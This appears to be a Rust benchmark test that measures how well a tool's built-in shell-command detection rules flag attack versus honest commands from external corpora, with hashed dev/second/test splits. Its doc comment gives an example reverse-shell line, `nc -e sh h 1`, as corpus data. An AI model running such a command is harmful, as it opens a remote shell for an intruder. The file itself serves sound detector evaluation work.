//! How much the shipped rules find in public corpora: lists of others, under other licences, that are no part of this repository.
//!
//! A folder has files of JSON lines: `{"id": "a/1", "kind": "attack", "text": "nc -e sh h 1"}`. `kind` is `attack` or `honest`; `text` is
//! what `sh -c` is given, or `payload` what is put into each line of `tests/shell/hosts.txt`; `weak` marks an attack that no
//! command by itself gives away. A hash of the id puts each into one of three parts: `dev`, a half, and `second`, a quarter, which whoever
//! mends rules may read, and `test`, a quarter, which is only scored.

use super::{Detections, Detector, Tally, alerts, play};
use serde_json::Value;
use sha2::{Digest, Sha256};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

const HOSTS: &str = include_str!("../../../tests/shell/hosts.txt");
const DIR: &str = "KERNSCOPE_CORPORA";
/// Which part's missed texts are named: `dev`, `second`, `test` or `all`.
const SHOW: &str = "KERNSCOPE_SHOW";

/// Rules of low severity: what they tell of is honest as often as not.
const LOW: [&str; 1] = ["installer-run"];

/// One line of a corpus.
struct Case {
    id: String,
    group: &'static str,
    /// `text`, or `payload` in each host.
    texts: Vec<String>,
}

impl Case {
    fn parse(line: &str) -> Result<Self, String> {
        let value: Value = serde_json::from_str(line).map_err(|why| why.to_string())?;
        let field = |name: &str| value.get(name).and_then(Value::as_str);
        let weak = value.get("weak").and_then(Value::as_bool).unwrap_or(false);
        let group = match (field("kind"), weak) {
            (Some("attack"), false) => "attacks",
            (Some("attack"), true) => "weak",
            (Some("honest"), _) => "honest",
            _ => return Err("kind must be attack or honest".to_owned()),
        };
        let texts = match (field("text"), field("payload")) {
            (Some(text), None) => vec![text.to_owned()],
            (None, Some(payload)) => HOSTS.lines().map(|host| host.replace('@', payload)).collect(),
            _ => return Err("needs one of text and payload".to_owned()),
        };
        let id = field("id").ok_or("needs an id")?.to_owned();
        Ok(Self { id, group: if texts.len() > 1 && group == "attacks" { "payloads" } else { group }, texts })
    }

    fn part(&self) -> &'static str {
        match Sha256::digest(&self.id)[0] & 3 {
            0 | 2 => "dev",
            1 => "test",
            _ => "second",
        }
    }
}

/// The files of a folder, by name.
fn files(dir: &Path) -> Vec<PathBuf> {
    let entries = std::fs::read_dir(dir).unwrap_or_else(|why| panic!("read {}: {why}", dir.display()));
    let mut files: Vec<PathBuf> = entries.filter_map(|entry| Some(entry.ok()?.path())).collect();
    files.retain(|file| file.extension().is_some_and(|end| end == "jsonl"));
    files.sort();
    assert!(!files.is_empty(), "{}: no file ends with .jsonl", dir.display());
    files
}

/// What became of a file's texts, by part and group.
fn score(detector: &mut Detector, file: &Path) -> BTreeMap<(&'static str, &'static str), Tally> {
    let text = std::fs::read_to_string(file).unwrap_or_else(|why| panic!("read {}: {why}", file.display()));
    let mut tallies: BTreeMap<_, Tally> = BTreeMap::new();
    for (line, number) in text.lines().zip(1..) {
        let case = Case::parse(line).unwrap_or_else(|why| panic!("{}:{number}: {why}", file.display()));
        for text in &case.texts {
            let rules = alerts(detector, &play::of_program(text));
            let tally = tallies.entry((case.part(), case.group)).or_default();
            tally.add(&format!("{}\t{text}", case.id), &rules);
            if case.group == "honest"
                && !rules.is_empty()
                && rules.iter().all(|rule| LOW.contains(&rule.as_str()))
            {
                tallies.entry((case.part(), "honest-low")).or_default().add(&case.id, &rules);
            }
        }
    }
    tallies
}

fn print(name: &str, tallies: &BTreeMap<(&'static str, &'static str), Tally>) {
    for ((part, group), tally) in tallies {
        println!("{name}\t{part}\t{group}\t{} of {}\t{:.1}", tally.alerts, tally.all(), tally.percent());
    }
}

/// `cargo xtask bench recall DIR` runs this.
#[test]
#[ignore = "needs a folder of corpora: cargo xtask bench recall DIR"]
fn public_corpora() {
    let dir = std::env::var_os(DIR).unwrap_or_else(|| panic!("{DIR} must name a folder"));
    let show = std::env::var(SHOW).unwrap_or_default();
    let mut detector = Detector::new(Detections::builtin());
    let mut all: BTreeMap<_, Tally> = BTreeMap::new();
    println!("corpus\thalf\tgroup\twith an alert\tpercent");
    for file in files(Path::new(&dir)) {
        let tallies = score(&mut detector, &file);
        print(&file.file_stem().unwrap_or_default().to_string_lossy(), &tallies);
        for ((part, group), tally) in tallies {
            if show == "all" || show == part {
                let wrong = if group == "honest" { &tally.loud } else { &tally.quiet };
                wrong.iter().for_each(|text| println!("{part} {group}: {}", text.escape_debug()));
            }
            let sum = all.entry((part, group)).or_default();
            sum.alerts += tally.alerts;
            sum.quiet.extend(tally.quiet);
        }
    }
    print("all", &all);
}
